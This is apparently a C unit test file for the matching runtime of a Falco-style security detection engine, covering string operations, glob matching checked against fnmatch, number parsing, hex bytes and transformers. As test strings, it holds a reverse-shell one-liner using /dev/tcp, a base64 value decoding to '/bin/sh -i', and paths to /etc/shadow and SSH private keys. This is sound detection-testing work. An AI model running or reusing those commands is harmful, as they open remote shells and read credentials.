/* SPDX-License-Identifier: MIT */
/* Unit tests for src/runtime/rt-match.c and rt-match-value.c: strings, glob, numbers, bytes,
 * transformers. */
#include <errno.h>
#include <fnmatch.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "core/error.h"
#include "runtime/rt-match.h"

#define S(x) x, strlen(x)

/* A deterministic generator for the randomised comparisons. */
static uint64_t rng_state = 0x853c49e6748fea9bull;

/* Append s to the string in buf (size bytes), cutting what does not fit. */
static void append(char *buf, size_t size, const char *s)
{
	size_t n = strlen(buf);

	snprintf(buf + n, size - n, "%s", s);
}

static uint32_t rng(void)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 7;
	rng_state ^= rng_state << 17;
	return (uint32_t)rng_state;
}

/* ---- strings ---------------------------------------------------------------- */

static void test_str_ops(void **state)
{
	(void)state;
	assert_true(rt_str_equal(S("abc"), S("abc")));
	assert_false(rt_str_equal(S("abc"), S("abd")));
	assert_false(rt_str_equal(S("abc"), S("ab")));
	assert_true(rt_str_equal(S(""), S("")));

	assert_true(rt_str_cmp(S("a"), S("b")) < 0);
	assert_true(rt_str_cmp(S("ab"), S("a")) > 0);
	assert_true(rt_str_cmp(S("a"), S("ab")) < 0);
	assert_int_equal(rt_str_cmp(S("ab"), S("ab")), 0);
	assert_true(rt_str_cmp(S("\xe9"), S("z")) > 0); /* bytes compare unsigned, as strcmp */

	assert_true(rt_str_startswith(S("/etc/shadow"), S("/etc/")));
	assert_true(rt_str_startswith(S("/etc"), S("")));
	assert_true(rt_str_startswith(S(""), S("")));
	assert_false(rt_str_startswith(S("/et"), S("/etc")));
	assert_false(rt_str_startswith(S("/usr/etc"), S("/etc")));

	assert_true(rt_str_endswith(S("id_rsa.pub"), S(".pub")));
	assert_true(rt_str_endswith(S("x"), S("")));
	assert_false(rt_str_endswith(S("pub"), S(".pub")));
	assert_false(rt_str_endswith(S(".pubx"), S(".pub")));

	assert_true(rt_str_contains(S("bash -i >& /dev/tcp/1.2.3.4/80"), S("/dev/tcp/")));
	assert_true(rt_str_contains(S("abc"), S("")));
	assert_true(rt_str_contains(S(""), S("")));
	/* An empty value may come with no pointer at all. */
	assert_false(rt_str_contains(NULL, 0, S("a")));
	assert_true(rt_str_contains(NULL, 0, NULL, 0));
	assert_false(rt_str_icontains(NULL, 0, S("a")));
	assert_false(rt_str_startswith(NULL, 0, S("a")));
	assert_false(rt_str_endswith(NULL, 0, S("a")));
	assert_true(rt_str_equal(NULL, 0, S("")));
	assert_false(rt_glob_match(S("?"), NULL, 0, false));
	assert_true(rt_glob_match(S("*"), NULL, 0, false));
	assert_false(rt_str_contains(S(""), S("a")));
	assert_false(rt_str_contains(S("ab"), S("abc")));
	assert_true(rt_str_contains(S("aaab"), S("aab")));

	assert_true(rt_str_icontains(S("cap_sys_MODULE cap_bpf"), S("SYS_module")));
	assert_true(rt_str_icontains(S("x"), S("")));
	assert_true(rt_str_icontains(S("AAAb"), S("aab")));
	assert_false(rt_str_icontains(S("abc"), S("abd")));
	assert_false(rt_str_icontains(S("ab"), S("abc")));
	/* Only ASCII folds, as strcasestr in the C locale. */
	assert_false(rt_str_icontains(S("\xc9t\xc9"), S("\xe9t\xe9")));
	assert_true(rt_str_icontains(S("x\xc9y"), S("X\xc9Y")));
}

/* ---- glob ------------------------------------------------------------------- */

struct glob_case {
	const char *g, *s;
	bool want, want_icase;
};

static void test_glob_cases(void **state)
{
	static const struct glob_case cases[] = {
	    /* '*' crosses '/' and takes a leading '.': Falco passes no flags. */
	    {"/etc/*", "/etc/ssh/sshd_config", true, true},
	    {"/etc/*", "/etc/", true, true},
	    {"/etc/*", "/etc", false, false},
	    {"*.pem", "/root/.ssh/key.pem", true, true},
	    {"/home/*/.ssh/*", "/home/a/b/.ssh/id_rsa", true, true},
	    {"*", "", true, true},
	    {"*", ".hidden", true, true},
	    {"", "", true, true},
	    {"", "a", false, false},
	    {"a", "", false, false},
	    {"?", "/", true, true},
	    {"?", "", false, false},
	    {"a?c", "abc", true, true},
	    {"a??", "ab", false, false},
	    {"**a**", "bab", true, true},
	    {"*a*b*c*", "xxaxxbxxcxx", true, true},
	    {"*a*b*c*", "xxaxxcxxbxx", false, false},
	    {"*ab", "aab", true, true},
	    {"runc:[0:PARENT]", "runc:[0:PARENT]", false, false}, /* a bracket, not literal */
	    {"runc:\\[0:PARENT\\]", "runc:[0:PARENT]", true, true},
	    {"[abc]", "b", true, true},
	    {"[abc]", "B", false, true},
	    {"[!abc]", "d", true, true},
	    {"[!abc]", "a", false, false},
	    {"[^abc]", "a", false, false},
	    {"[a-c]x", "bx", true, true},
	    {"[a-c]", "d", false, false},
	    {"[A-C]", "b", false, true},
	    {"[a-]", "-", true, true},
	    {"[]]", "]", true, true},
	    {"[]a]", "a", true, true},
	    {"[!]]", "]", false, false},
	    {"[!]]", "x", true, true},
	    {"[[:digit:]]*", "7up", true, true},
	    {"[[:digit:]]*", "up", false, false},
	    {"[[:upper:]]", "a", false, false}, /* glibc tests the unfolded byte */
	    {"[[:alpha:][:digit:]]", "5", true, true},
	    {"[[:nope:]]", "n", false, false}, /* an unknown class matches nothing */
	    {"[[=a=]]", "a", true, true},
	    {"[[.a.]]", "a", true, true},
	    {"\\*", "*", true, true},
	    {"\\*", "a", false, false},
	    {"a\\", "a", false, false}, /* a trailing backslash matches nothing */
	    {"a\\", "a\\", false, false},
	    {"[a", "[a", true, true}, /* unterminated: '[' is literal */
	    {"[a", "a", false, false},
	    {"*[", "x[", true, true},
	    {"/usr/bin/[a-z]*", "/usr/bin/python3", true, true},
	    {"/USR/*", "/usr/bin", false, true},
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct glob_case *c = &cases[i];
		bool got = rt_glob_match(S(c->g), S(c->s), false);
		bool goti = rt_glob_match(S(c->g), S(c->s), true);

		if (got != c->want || goti != c->want_icase)
			fail_msg("glob '%s' on '%s': got %d/%d, want %d/%d", c->g, c->s, got, goti,
			         c->want, c->want_icase);
		/* And glibc agrees with every expectation above. */
		assert_int_equal(fnmatch(c->g, c->s, 0) == 0, c->want);
		assert_int_equal(fnmatch(c->g, c->s, FNM_CASEFOLD) == 0, c->want_icase);
	}
}

/* Random patterns from the pieces glob syntax is made of, against glibc's fnmatch(3). */
static void test_glob_vs_fnmatch(void **state)
{
	static const char *const frag[] = {"[",     "]",    "[:",   ":]", "alpha", "upper", "digit",
	                                   "space", "zz",   "[=",   "=]", "[.",    ".]",    "a",
	                                   "B",     "\\",   "-",    "!",  "^",     "*",     "?",
	                                   "/",     "\x80", "\xe9", "0",  " "};
	static const char alphabet[] = "aB]-/[:=.\\!^0 zZ\x80\xe9";
	long bad = 0;

	(void)state;
	for (long i = 0; i < 300000; i++) {
		char g[96] = "", s[12];
		size_t nf = rng() % 8, sl = rng() % 9;

		for (size_t k = 0; k < nf; k++)
			append(g, sizeof(g), frag[rng() % (sizeof(frag) / sizeof(frag[0]))]);
		for (size_t k = 0; k < sl; k++)
			s[k] = alphabet[rng() % (sizeof(alphabet) - 1)];
		s[sl] = '\0';
		for (int icase = 0; icase < 2; icase++) {
			bool want = fnmatch(g, s, icase ? FNM_CASEFOLD : 0) == 0;
			bool got = rt_glob_match(S(g), S(s), icase);

			if (want != got && bad++ < 10)
				print_error("glob '%s' on '%s' (icase %d): fnmatch %d, vakt %d\n",
				            g, s, icase, want, got);
		}
	}
	assert_int_equal(bad, 0);
}

static void test_glob_no_blowup(void **state)
{
	char g[200], s[4001];

	(void)state;
	/* Many stars against a long near miss: quadratic at worst, not exponential. */
	for (size_t i = 0; i < sizeof(g) - 2; i += 2) {
		g[i] = '*';
		g[i + 1] = 'a';
	}
	g[sizeof(g) - 2] = 'b';
	g[sizeof(g) - 1] = '\0';
	memset(s, 'a', sizeof(s) - 1);
	s[sizeof(s) - 1] = '\0';
	assert_false(rt_glob_match(S(g), S(s), false));
	/* Lengths, not NULs: a value may be part of a larger buffer. */
	assert_true(rt_glob_match("a*", 2, "abc-not-this", 3, false));
}

/* ---- numbers ------------------------------------------------------------------ */

static void test_num_lex(void **state)
{
	static const struct {
		const char *in;
		size_t want;
	} cases[] = {
	    {"0x1f", 4},   {"0X1F)", 4},  {"0xZZ", 4}, /* Falco's lexer takes any alnum */
	    {"0x", 1},     {"0x)", 1},    {"-12", 3},
	    {"+7 and", 2}, {"1.5", 3},    {"1.", 2},
	    {"1.e+3", 5},  {"2E-10x", 5}, {"1e5", 1}, /* the exponent needs a sign */
	    {"1e+", 1},    {".5", 0},     {"-", 0},
	    {"abc", 0},    {"", 0},       {"123456789012345678901234567890", 30},
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (rt_num_lex(S(cases[i].in)) != cases[i].want)
			fail_msg("lex '%s': got %zu, want %zu", cases[i].in,
			         rt_num_lex(S(cases[i].in)), cases[i].want);
}

static void expect_num_error(const char *in, int code, const char *needle)
{
	struct vakt_error *err = NULL;
	uint64_t u = 0;
	int r = rt_num_parse_u64(S(in), UINT64_MAX, &u, &err);

	if (r != code || !err || !strstr(err->msg, needle))
		fail_msg("'%s': got %d '%s', want %d with '%s'", in, r, err ? err->msg : "(none)",
		         code, needle);
	vakt_error_free(err);
}

static void test_num_parse(void **state)
{
	struct vakt_error *err = NULL;
	uint64_t u = 1;
	int64_t i = 1;

	(void)state;
	assert_int_equal(rt_num_parse_u64(S("0"), UINT64_MAX, &u, &err), 0);
	assert_int_equal(u, 0);
	assert_int_equal(rt_num_parse_u64(S("18446744073709551615"), UINT64_MAX, &u, &err), 0);
	assert_true(u == UINT64_MAX);
	assert_int_equal(rt_num_parse_u64(S("+42"), UINT64_MAX, &u, &err), 0);
	assert_int_equal(u, 42);
	assert_int_equal(rt_num_parse_u64(S("-0"), UINT64_MAX, &u, &err), 0);
	assert_int_equal(u, 0);
	assert_int_equal(rt_num_parse_u64(S("  7"), UINT64_MAX, &u, &err), 0); /* sscanf skips */
	assert_int_equal(u, 7);
	assert_int_equal(rt_num_parse_u64(S("007"), UINT64_MAX, &u, &err), 0); /* not octal */
	assert_int_equal(u, 7);
	assert_int_equal(rt_num_parse_u64(S("65535"), 65535, &u, &err), 0);
	assert_null(err);

	assert_int_equal(rt_num_parse_i64(S("-1"), INT64_MIN, INT64_MAX, &i, &err), 0);
	assert_int_equal(i, -1);
	assert_int_equal(
	    rt_num_parse_i64(S("-9223372036854775808"), INT64_MIN, INT64_MAX, &i, &err), 0);
	assert_true(i == INT64_MIN);
	assert_int_equal(rt_num_parse_i64(S("9223372036854775807"), INT64_MIN, INT64_MAX, &i, &err),
	                 0);
	assert_true(i == INT64_MAX);
	assert_null(err);

	expect_num_error("0x10", -EINVAL, "not hexadecimal");
	expect_num_error("1.5", -EINVAL, "integers only");
	expect_num_error("1e+3", -EINVAL, "integers only");
	expect_num_error("", -EINVAL, "not a decimal number");
	expect_num_error("-", -EINVAL, "not a decimal number");
	expect_num_error("abc", -EINVAL, "not a decimal number");
	expect_num_error("5 ", -EINVAL, "unexpected text");
	expect_num_error("5x", -EINVAL, "unexpected text");
	/* Huge numbers: an error where Falco's sscanf saturates. */
	expect_num_error("18446744073709551616", -ERANGE, "out of range");
	expect_num_error("99999999999999999999999999999999", -ERANGE, "out of range");
	/* A negative number for an unsigned field: Falco would wrap it. */
	expect_num_error("-1", -ERANGE, "out of range for this field");

	assert_int_equal(rt_num_parse_u64(S("65536"), 65535, &u, &err), -ERANGE);
	vakt_error_free(err);
	err = NULL;
	assert_int_equal(rt_num_parse_i64(S("9223372036854775808"), INT64_MIN, INT64_MAX, &i, &err),
	                 -ERANGE);
	vakt_error_free(err);
	err = NULL;
	assert_int_equal(
	    rt_num_parse_i64(S("-9223372036854775809"), INT64_MIN, INT64_MAX, &i, &err), -ERANGE);
	vakt_error_free(err);
	err = NULL;
	assert_int_equal(rt_num_parse_i64(S("-2"), -1, 10, &i, &err), -ERANGE);
	vakt_error_free(err);
	err = NULL;
	/* A NULL err is allowed: only the code comes back. */
	assert_int_equal(rt_num_parse_u64(S("x"), UINT64_MAX, &u, NULL), -EINVAL);
	/* A long bad operand is quoted in part. */
	{
		char big[300];

		memset(big, '9', sizeof(big) - 1);
		big[sizeof(big) - 1] = '\0';
		assert_int_equal(rt_num_parse_u64(S(big), UINT64_MAX, &u, &err), -ERANGE);
		assert_true(strlen(err->msg) < 150);
		assert_non_null(strstr(err->msg, "..."));
		vakt_error_free(err);
	}
}

/* ---- bytes ---------------------------------------------------------------------- */

static void test_hex_and_bytes(void **state)
{
	struct vakt_error *err = NULL;
	uint8_t out[16];
	size_t n = 99;

	(void)state;
	assert_int_equal(rt_hex_parse(S("7f454C46"), out, &n, &err), 0);
	assert_int_equal(n, 4);
	assert_memory_equal(out,
	                    "\x7f"
	                    "ELF",
	                    4);
	assert_int_equal(rt_hex_parse(S(""), out, &n, &err), 0);
	assert_int_equal(n, 0);
	assert_null(err);

	assert_int_equal(rt_hex_parse(S("abc"), out, &n, &err), -EINVAL);
	assert_non_null(strstr(err->msg, "odd number"));
	vakt_error_free(err);
	err = NULL;
	assert_int_equal(rt_hex_parse(S("0x7f"), out, &n, &err), -EINVAL);
	assert_non_null(strstr(err->msg, "byte 2 is not a hex digit"));
	vakt_error_free(err);
	err = NULL;
	assert_int_equal(rt_hex_parse(S("7f 45"), out, &n, &err), -EINVAL);
	vakt_error_free(err);
	err = NULL;

	assert_true(rt_bytes_contains("\0\x7f"
	                              "ELF\0",
	                              6, "ELF", 3));
	assert_true(rt_bytes_contains("\0\0", 2, "\0", 1)); /* bytes, not C strings */
	assert_true(rt_bytes_contains("abc", 3, "", 0));
	assert_true(rt_bytes_contains("", 0, "", 0));
	assert_false(rt_bytes_contains("ab", 2, "abc", 3));
	assert_false(rt_bytes_contains(NULL, 0, "a", 1));
	assert_true(rt_bytes_startswith("\x7f"
	                                "ELF\x02",
	                                5,
	                                "\x7f"
	                                "ELF",
	                                4));
	assert_false(rt_bytes_startswith("\x7f"
	                                 "EL",
	                                 3,
	                                 "\x7f"
	                                 "ELF",
	                                 4));
	assert_true(rt_bytes_startswith("x", 1, "", 0));
}

/* ---- transformers -------------------------------------------------------------- */

static void test_xf_names(void **state)
{
	enum rt_ftype out = RT_FT_BOOL;

	(void)state;
	assert_int_equal(rt_xf_lookup(S("tolower")), RT_XF_TOLOWER);
	assert_int_equal(rt_xf_lookup(S("toupper")), RT_XF_TOUPPER);
	assert_int_equal(rt_xf_lookup(S("b64")), RT_XF_B64);
	assert_int_equal(rt_xf_lookup(S("basename")), RT_XF_BASENAME);
	assert_int_equal(rt_xf_lookup(S("len")), RT_XF_LEN);
	assert_int_equal(rt_xf_lookup(S("val")), RT_XF_NONE);
	assert_int_equal(rt_xf_lookup(S("Tolower")), RT_XF_NONE);
	assert_int_equal(rt_xf_lookup("tolowerx", 7), RT_XF_TOLOWER);
	assert_string_equal(rt_xf_name(RT_XF_B64), "b64");
	assert_null(rt_xf_name(RT_XF_NONE));
	assert_null(rt_xf_name((enum rt_xf)99));

	assert_true(rt_xf_accepts(RT_XF_TOLOWER, RT_FT_STR, false, &out));
	assert_int_equal(out, RT_FT_STR);
	assert_true(rt_xf_accepts(RT_XF_TOUPPER, RT_FT_STR, true, &out)); /* each value */
	assert_false(rt_xf_accepts(RT_XF_TOLOWER, RT_FT_U64, false, &out));
	assert_false(rt_xf_accepts(RT_XF_BASENAME, RT_FT_BYTES, false, &out));
	assert_true(rt_xf_accepts(RT_XF_B64, RT_FT_BYTES, false, &out));
	assert_int_equal(out, RT_FT_BYTES);
	assert_false(rt_xf_accepts(RT_XF_B64, RT_FT_IPADDR, false, &out));
	assert_true(rt_xf_accepts(RT_XF_LEN, RT_FT_STR, false, &out));
	assert_int_equal(out, RT_FT_U64);
	assert_true(rt_xf_accepts(RT_XF_LEN, RT_FT_I64, true, &out)); /* a list: its count */
	assert_false(rt_xf_accepts(RT_XF_LEN, RT_FT_I64, false, &out));
	assert_false(rt_xf_accepts(RT_XF_NONE, RT_FT_STR, false, &out));
}

static void test_xf_case(void **state)
{
	char out[32];
	size_t n;

	(void)state;
	rt_xf_tolower(S("Cap_SYS_Admin 9\xc9"), out, &n);
	assert_int_equal(n, 16);
	assert_memory_equal(out, "cap_sys_admin 9\xc9", n);
	rt_xf_toupper(S("bash-5.2 \xe9"), out, &n);
	assert_memory_equal(out, "BASH-5.2 \xe9", n);
	rt_xf_toupper("ab\0\0", 4, out, &n); /* trailing NULs dropped, as Falco does */
	assert_int_equal(n, 2);
	rt_xf_tolower(S(""), out, &n);
	assert_int_equal(n, 0);
}

static void expect_b64(const char *in, const char *want)
{
	char out[64];
	size_t n = 0;
	bool ok = rt_xf_b64(S(in), out, &n);

	if (!want) {
		if (ok)
			fail_msg("b64('%s') decoded to '%.*s', want no value", in, (int)n, out);
		return;
	}
	if (!ok || n != strlen(want) || memcmp(out, want, n) != 0)
		fail_msg("b64('%s'): got %d '%.*s', want '%s'", in, ok, (int)n, out, want);
}

static void test_xf_b64(void **state)
{
	(void)state;
	expect_b64("", "");
	expect_b64("aGVsbG8=", "hello");
	expect_b64("aGVsbG8", "hello"); /* padding is optional */
	expect_b64("aGVsbA==", "hell");
	expect_b64("aGVsbA", "hell");
	expect_b64("aGVsbA=", "hell"); /* Falco does not count the '=' */
	expect_b64("QUI==", "AB");
	expect_b64("QUJD", "ABC");
	expect_b64("L2Jpbi9zaCAtaQ==", "/bin/sh -i");
	expect_b64("+/+/", "\xfb\xff\xbf");
	expect_b64("aGVsbG8===", NULL); /* three '=' */
	expect_b64("=", NULL);
	expect_b64("==", NULL);
	expect_b64("a", NULL);         /* one character is no byte */
	expect_b64("aGVsbG8h1", NULL); /* n % 4 == 1 */
	expect_b64("aG Vs", NULL);     /* no white space */
	expect_b64("aGV\nsbG8=", NULL);
	expect_b64("aG=sbG8=", NULL); /* '=' inside */
	expect_b64("-_-_", NULL);     /* not the URL alphabet */
	expect_b64("QR==", NULL);     /* unused bits set */
	expect_b64("QUJ=", NULL);
	expect_b64("QUI=", "AB");
	{
		char out[8];
		size_t n;

		assert_true(rt_xf_b64("QUJD\0", 5, out, &n)); /* a trailing NUL dropped */
		assert_int_equal(n, 3);
	}
}

static void test_xf_basename_len(void **state)
{
	static const struct {
		const char *in, *want;
	} cases[] = {
	    {"/usr/bin/bash", "bash"},
	    {"bash", "bash"},
	    {"/usr/bin/", ""},
	    {"/", ""},
	    {"", ""},
	    {"a/b", "b"},
	    {"//x", "x"},
	    {"/a.b/c.d", "c.d"},
	};
	const char *out;
	size_t n;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		rt_xf_basename(S(cases[i].in), &out, &n);
		if (n != strlen(cases[i].want) || memcmp(out, cases[i].want, n) != 0)
			fail_msg("basename('%s'): got '%.*s', want '%s'", cases[i].in, (int)n, out,
			         cases[i].want);
	}
	rt_xf_basename("/x/y\0", 5, &out, &n);
	assert_int_equal(n, 1);

	assert_int_equal(rt_xf_len(S("hello"), false), 5);
	assert_int_equal(rt_xf_len(S(""), false), 0);
	assert_int_equal(rt_xf_len("ab\0cd", 5, false), 2);    /* a string ends at its NUL */
	assert_int_equal(rt_xf_len("ab\0cd", 5, true), 5);     /* a buffer does not */
	assert_int_equal(rt_xf_len(S("h\xc3\xa9"), false), 3); /* bytes, not characters */
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_str_ops),         cmocka_unit_test(test_glob_cases),
	    cmocka_unit_test(test_glob_vs_fnmatch), cmocka_unit_test(test_glob_no_blowup),
	    cmocka_unit_test(test_num_lex),         cmocka_unit_test(test_num_parse),
	    cmocka_unit_test(test_hex_and_bytes),   cmocka_unit_test(test_xf_names),
	    cmocka_unit_test(test_xf_case),         cmocka_unit_test(test_xf_b64),
	    cmocka_unit_test(test_xf_basename_len),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
